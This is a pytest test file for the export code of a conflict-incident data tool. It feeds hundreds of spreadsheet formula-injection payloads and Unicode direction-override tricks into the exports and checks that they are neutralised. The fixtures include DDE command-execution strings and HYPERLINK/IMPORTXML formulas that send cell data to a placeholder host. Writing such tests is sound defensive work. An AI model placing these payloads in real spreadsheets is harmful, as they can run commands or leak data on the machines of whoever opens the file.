"""300 formula payloads and 200 Unicode tricks: no cell becomes a formula, nothing is turned around, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import itertools
import json
import unicodedata
from typing import Any

import pytest

from marsad.export import FORMATS, State, cells
from marsad.export.cells import guarded, plain, safe
from marsad.model import Actor, Claim, Document, Incident, Place, Quote, ReconciledToll, Source, When, Words

CALLS = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.invalid/?\"&A1,\"انقر\")", "IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")",
    "WEBSERVICE(\"http://x.invalid\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1)", "IMAGE(\"http://x.invalid\")", "MSEXCEL|'\\..\\..\\x'!''",
)  # fmt: skip
LEADS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\u2212")
WAYS = ("{lead}{call}", " {lead}{call}", "\t{lead}{call}", "\r\n{lead}{call}", "\u200f{lead}{call}", "\ufeff{lead}{call}", "\u202e\u00a0{lead}{call}",
        "نص;{lead}{call}", "نص\n{lead}{call}", "\"{lead}{call}", "'{lead}{call}", "\x00{lead}{call}")  # fmt: skip
FORMULAS = [way.format(lead=lead, call=call) for call, lead, way in itertools.product(CALLS, LEADS, WAYS)][::4]
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u2212")

MARKS = (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C, 0x200B, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xFEFF, 0xAD, 0x034F,
         0x180E, 0x115F, 0x3164, 0xFFA0, 0xFE0F, 0xE0041, 0xE007F, 0xFFF9, 0xFFFB, 0x2028, 0x2029, 0x85, 0x08, 0x1B, 0x7F)  # fmt: skip
PLACES = ("{m}مقتل ٤ جنود", "مقتل {m}12{m} جندياً", "قتل{m}ى في الميادين", "abc{m}fed 30.5", "نص{m}", "من {m}5 إلى 9{m} قتلى")
TRICKS = [where.format(m=chr(mark)) for mark, where in itertools.product(MARKS, PLACES)]


def ledger_of(text: str, n: int) -> State:
    """One incident into every text field of which the payload goes."""
    import datetime as dt

    when = When(dt.date(2021, 3, 5), dt.date(2021, 3, 5), text, "day", text, 0, 1)
    place = Place(text, 0, 1, name=text, country="SY", admin1=text, admin2=text, lat=-35.5, lon=-40.25, radius_km=3.0, precision="town")
    claim = Claim(
        f"c_{n:016x}", f"d_{n:04}", text, "shelling", time=when, place=place, perpetrators=(Actor(text, 0, 1, "islamic_state"),),
        targets=(Actor(text, 0, 1, "civilians"),), sources=(Source(text, 0, 1, text),), evidence=(Quote(text, 0, 1),),
    )  # fmt: skip
    why = Words(text, text)
    toll = ReconciledToll("killed", None, 2, 2, 3, why)
    incident = Incident(
        f"i_{n:016x}", "shelling", "fair", (claim.id,), time=when, place=place, perpetrators=("islamic_state", text), targets=("civilians", text),
        tolls=(toll, ReconciledToll("killed", text, 1, 1, 1, why)), status="asserted", disputed=(text,),
    )  # fmt: skip
    return State([incident], {claim.id: claim}, {claim.document: Document(claim.document, text, text, outlet=text, title=text, url=text, published=dt.date(2021, 3, 6))})


def merged(payloads: list[str]) -> State:
    states = [ledger_of(p, n) for n, p in enumerate(payloads)]
    return State([i for s in states for i in s.incidents], {k: c for s in states for k, c in s.claims.items()}, {k: d for s in states for k, d in s.documents.items()})


def csv_cells(name: str, state: State) -> list[str]:
    data = b"".join(FORMATS[name].write(state)).decode("utf-8")
    return [c for row in csv.reader(io.StringIO(data.removeprefix("\ufeff"), newline="")) for c in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.isascii()


def test_there_are_enough_payloads() -> None:
    assert len(FORMULAS) >= 300 and len(TRICKS) >= 200


@pytest.mark.parametrize("name", ["csv", "acled", "ucdp", "airwars", "uwazi"])
def test_no_csv_cell_is_a_formula(name: str) -> None:
    found = csv_cells(name, merged(FORMULAS))
    assert len(found) > 300
    for cell in found:
        if not is_number(cell):
            assert not cell.lstrip(" \u00a0").startswith(STARTS), repr(cell)
            for later in cell.replace("\n", ";").split(";")[1:]:  # spreadsheets of some countries split at «;»
                assert not later.lstrip().startswith(STARTS), repr(cell)
    assert "-35.5" in found or name == "uwazi", "a negative number stays a number"


def test_no_hxl_cell_below_the_tags_is_a_formula() -> None:
    rows = b"".join(FORMATS["hxl"].write(merged(FORMULAS[:100]))).decode("utf-8-sig")
    for row in list(csv.reader(io.StringIO(rows, newline="")))[2:]:
        assert not any(c.lstrip(" \u00a0").startswith(STARTS) for c in row if not is_number(c))


def test_no_workbook_cell_is_a_formula(tmp_path: Any) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(FORMATS["xlsx"].write(merged(FORMULAS)))))
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                seen += 1
                assert cell.data_type != "f" and cell.hyperlink is None
                assert not isinstance(cell.value, str) or not cell.value.startswith(STARTS), cell.value
    assert seen > 3000


@pytest.mark.parametrize("name", ["csv", "acled", "ucdp", "airwars", "uwazi", "hxl", "kml"])
def test_nothing_is_turned_around(name: str) -> None:
    data = b"".join(FORMATS[name].write(merged(TRICKS))).decode("utf-8").removeprefix("\ufeff")
    left = {c for c in data if ord(c) in MARKS or (unicodedata.category(c) in ("Cf", "Cs") and c not in "\u200c\u200d") or (unicodedata.category(c) == "Cc" and c not in "\r\n")}
    assert not left, sorted(map(hex, map(ord, left)))


@pytest.mark.parametrize("name", ["jsonl", "claims", "geojson", "plover", "ftm", "claimreview", "prov"])
def test_json_keeps_what_was_read_and_shows_no_unseen_mark(name: str) -> None:
    data = b"".join(FORMATS[name].write(merged(TRICKS))).decode("utf-8")
    assert not {c for c in data if ord(c) in MARKS}
    values = [json.loads(line) for line in data.splitlines()] if name in ("jsonl", "claims", "plover", "ftm") else [json.loads(data)]
    assert values
    if name == "claims":
        assert {v["evidence"][0]["text"] for v in values} == set(TRICKS), "the words of the report are not touched"


def test_workbook_text_has_no_unseen_mark() -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(FORMATS["xlsx"].write(merged(TRICKS)))))
    text = "".join(str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.value is not None)
    assert not {c for c in text if ord(c) in MARKS}


def test_archive_members_are_safe_too() -> None:
    import zipfile

    archive = zipfile.ZipFile(io.BytesIO(b"".join(FORMATS["datapackage"].write(merged(FORMULAS)))))
    for name in ("incidents.csv", "claims.csv"):
        for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline="")):
            assert not any(c.lstrip(" \u00a0").startswith(STARTS) for c in row if not is_number(c))


@pytest.mark.parametrize(("text", "shown"), [
    ("می\u200cخواهم", "می\u200cخواهم"), ("قتل\u200c 4", "قتل 4"), ("a\u202eb", "ab"), ("a\r\nb", "a\nb"), ("قُتِلَ", "قُتِلَ"), ("\u200dنص\u200d", "نص"), ("نص عادي", "نص عادي"),
])  # fmt: skip
def test_plain(text: str, shown: str) -> None:
    assert plain(text) == shown


@pytest.mark.parametrize(("text", "shown"), [("=1", "'=1"), ("نص", "نص"), ("a; b", "a; b"), ("a;=b", "a;'=b"), ("3-4", "3-4"), ("killed 4–9; -1", "killed 4–9; '-1")])
def test_guarded(text: str, shown: str) -> None:
    assert guarded(text) == shown


def test_values_that_are_no_text() -> None:
    assert [safe(v) for v in (3, -2.5, None, True, False)] == [3, -2.5, "", "true", "false"]


def test_a_row_reads_back() -> None:
    rows = [["a", 1, None, "نص، مع فاصلة", 'he said "x"', "line\nbreak"]] * 1200
    data = b"".join(cells.rows(rows)).decode()
    back = list(csv.reader(io.StringIO(data, newline="")))
    assert len(back) == 1200 and back[0] == ["a", "1", "", "نص، مع فاصلة", 'he said "x"', "line\nbreak"]
